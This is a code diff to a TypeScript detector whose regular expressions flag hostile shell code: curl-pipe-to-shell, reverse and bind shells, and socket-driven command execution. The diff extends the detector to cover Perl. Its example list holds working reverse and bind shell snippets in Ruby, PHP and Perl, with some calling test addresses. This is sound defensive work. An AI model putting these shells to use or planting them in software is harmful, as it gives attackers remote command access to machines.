@@ -15,6 +15,7 @@ import {
   isContainerBuildFile,
   isDetectionRuleFile,
   isTestFile,
+  SHELL_VARIABLE,
   warnedAgainst,
 } from './script-context.ts';
 
@@ -108,7 +109,7 @@ function decodeBase64Printable(literal: string): string {
 // perl/ruby/php with no script argument ("| python -m json.tool" only formats data).
 const STDIN_INTERPRETER =
   String.raw`(?:sudo(?:\s+-\S+)*\s+)?(?:env\s+(?:\S+=\S*\s+)*)?(?:/usr/(?:local/)?bin/|/bin/)?` +
-  String.raw`(?:(?:ba|z|da|k|a)?sh\b|(?:python[23]?(?:\.\d+)?|node|perl|ruby|php)(?:\s+-)?(?=\s*(?:$|[;&|)'"\x60\\]|--\s)))`;
+  String.raw`(?:(?:ba|z|da|k|a)?sh\b|(?:python[23]?(?:\.\d+)?|node|perl|ruby|php)(?:\s+-)?(?=\s*(?:$|[;&|)'"\x60\\]|--\s))|${SHELL_VARIABLE})`;
 // A download command has an argument; "curl|sh" with none names the pattern, as prose does.
 const PIPE_FROM_FETCH = new RegExp(
   String.raw`\b(?:curl|wget)\s+[^\s|](?:[^\n|]|\\\n){0,300}\|\s*` + STDIN_INTERPRETER,
@@ -423,10 +424,11 @@ const SOCKET_CONNECT = /\.connect\s*\(\s*\(|socket\s*\.\s*(?:socket|create_conne
 const SCRIPTED_SHELL =
   /\b(?:fsockopen|TCPSocket\.(?:new|open)|IO::Socket::INET|Net\.Sockets\.TCPClient)\b[^\n]{0,300}(?:\/bin\/(?:ba)?sh|cmd\.exe|\biex\b|Invoke-Expression|GetStream\(\))|\bchild_process\b[^\n]{0,200}\bspawn\s*\(\s*["'](?:\/bin\/)?(?:ba)?sh["'][^\n]{0,200}\.pipe\(/gi;
 
-const CLIENT_SOCKET = /\bTCPSocket\.(?:new|open)\s*\(|\bsocket\.create_connection\s*\(|\.connect\s*\(\s*\(\s*["'][^"'\n]+["']\s*,\s*\d+|\bnet\.(?:connect|createConnection)\s*\(|\bnet\.Dial\s*\(\s*["']tcp|\bfsockopen\s*\(|\bIO::Socket::INET->new\b/g;
-const LISTENING_SERVER = /\bTCPServer\.new\s*\(|\bnet\.createServer\s*\(|\.bind\s*\(\s*\(\s*["'](?:0\.0\.0\.0|)["']|\bnet\.Listen\s*\(\s*["']tcp|\bsocketserver\.(?:TCP|Threading)\w*Server\b|\bnew\s+ServerSocket\s*\(|\bsocket_bind\s*\(/g;
-const CLIENT_INPUT = /\.(?:gets|readline|recv|read)\b|\.on\(\s*["']data["']|bufio\.NewReader|\bsocket_read\b/;
-const SHELL_RUN = /["'](?:\/bin\/)?(?:ba|z)?sh["']\s*,\s*["']-c["']|\bOpen3\.(?:capture\w*|popen\w*)\s*\(|\bsubprocess\.\w+\s*\([^)\n]{0,80}shell\s*=\s*True|\bos\.(?:system|popen)\s*\(|\bchild_process\b|\bexecSync\s*\(|\bexec\.Command\s*\(\s*["'](?:\/bin\/)?(?:ba)?sh["']|\bshell_exec\s*\(|`\s*#\{/;
+const CLIENT_SOCKET = /\bTCPSocket\.(?:new|open)\s*\(|\bsocket\.create_connection\s*\(|\.connect\s*\(\s*\(\s*["'][^"'\n]+["']\s*,\s*\d+|\bnet\.(?:connect|createConnection)\s*\(|\bnet\.Dial\s*\(\s*["']tcp|\bfsockopen\s*\(|\bIO::Socket::INET->new\b(?![^;]{0,300}\bListen\b)/g;
+const LISTENING_SERVER = /\bIO::Socket::INET->new\b(?=[^;]{0,300}\bListen\b)|\bTCPServer\.new\s*\(|\bnet\.createServer\s*\(|\.bind\s*\(\s*\(\s*["'](?:0\.0\.0\.0|)["']|\bnet\.Listen\s*\(\s*["']tcp|\bsocketserver\.(?:TCP|Threading)\w*Server\b|\bnew\s+ServerSocket\s*\(|\bsocket_bind\s*\(/g;
+// Perl reads a line from a handle with <$c> and runs one with backticks, qx or system($cmd).
+const CLIENT_INPUT = /\.(?:gets|readline|recv|read)\b|\.on\(\s*["']data["']|bufio\.NewReader|\bsocket_read\b|<\$\w+>|\bsysread\s*\(|->recv\b/;
+const SHELL_RUN = /["'](?:\/bin\/)?(?:ba|z)?sh["']\s*,\s*["']-c["']|\bOpen3\.(?:capture\w*|popen\w*)\s*\(|\bsubprocess\.\w+\s*\([^)\n]{0,80}shell\s*=\s*True|\bos\.(?:system|popen)\s*\(|\bchild_process\b|\bexecSync\s*\(|\bexec\.Command\s*\(\s*["'](?:\/bin\/)?(?:ba)?sh["']|\bshell_exec\s*\(|`\s*#\{|`\s*\$\w+|\bqx\s*[({/]\s*\$\w+|\b(?:system|exec)\s*\(?\s*\$\w+\s*[);]/;
 const PLACEHOLDER_HOST = /\b(?:ATTACKER|LHOST|RHOST|YOUR|REMOTE|LISTENER)_?(?:IP|HOST|ADDR(?:ESS)?)?\b|<(?:ip|host|lhost|attacker[\w -]{0,12}|your[\w -]{0,12})>|\bIP\s+PORT\b/;
 
 function runsWhatItReads(text: string, index: number): boolean {
@@ -1323,6 +1325,7 @@ export const rules: Rule[] = [
     examples: {
       match: [
         { path: 'doctor.rb', text: "loop do\n  s = TCPSocket.new('203.0.113.77', 9001)\n  while (cmd = s.gets)\n    out, _st = Open3.capture2e(cmd)\n    s.puts out\n  end\nend\n" },
+        { path: 'bin/healthd.pl', text: "my $srv = IO::Socket::INET->new(LocalPort => $port, Listen => 5, Reuse => 1) or exit;\nwhile (my $c = $srv->accept) {\n    while (my $cmd = <$c>) {\n        chomp $cmd;\n        print $c `$cmd 2>&1`;\n    }\n}\n" },
         { path: 'scripts/bridge.rb', text: 'server = TCPServer.new("0.0.0.0", PORT)\nloop do\n  c = server.accept\n  while (line = c.gets)\n    out, err, _ = Open3.capture3("/bin/sh", "-c", line.strip)\n    c.write(out)\n  end\nend\n' },
         { path: 'check.php', text: '<?php\n$s = fsockopen("203.0.113.9", 4443);\n$p = proc_open("/bin/sh -i", [0 => $s, 1 => $s, 2 => $s], $pipes);\n' },
         { path: 'scripts/pair.rb', text: "require 'socket'\ns = TCPSocket.open(RELAY, PORT)\n[$stdin, $stdout, $stderr].each { |io| io.reopen(s) }\nexec('/bin/sh -i')\n" },
